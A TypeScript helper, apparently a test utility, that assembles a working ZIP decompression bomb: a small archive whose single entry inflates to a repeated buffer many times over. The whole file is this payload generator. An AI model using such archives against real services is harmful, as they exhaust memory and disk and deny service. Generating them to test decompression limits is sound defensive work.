/** An archive with one file in it that unpacks to `unit`, so many times over, and is small itself. */
import { constants, deflateRawSync } from 'node:zlib';

export function makeZipBomb(name: string, start: string, unit: Buffer, times: number): Buffer {
  // Blocks that are flushed but not ended can be put one behind the other.
  const block = deflateRawSync(unit, { finishFlush: constants.Z_FULL_FLUSH, level: 9 });
  const first = deflateRawSync(Buffer.from(start), { finishFlush: constants.Z_FULL_FLUSH });
  const packed = Buffer.concat([first, ...Array.from({ length: times }, () => block), Buffer.from([3, 0])]);
  const common = Buffer.alloc(26);
  common.writeUInt16LE(20, 0);
  common.writeUInt16LE(8, 4);
  common.writeUInt32LE(packed.length, 14);
  common.writeUInt32LE(Math.min(0xfffffff0, start.length + unit.length * times), 18);
  common.writeUInt16LE(name.length, 22);
  const head = Buffer.concat([Buffer.from('PK\x03\x04'), common, Buffer.from(name), packed]);
  const directory = Buffer.concat([
    Buffer.from('PK\x01\x02\x14\x00', 'latin1'),
    common,
    Buffer.alloc(14),
    Buffer.from(name),
  ]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(head.length, 16);
  return Buffer.concat([head, directory, end]);
}
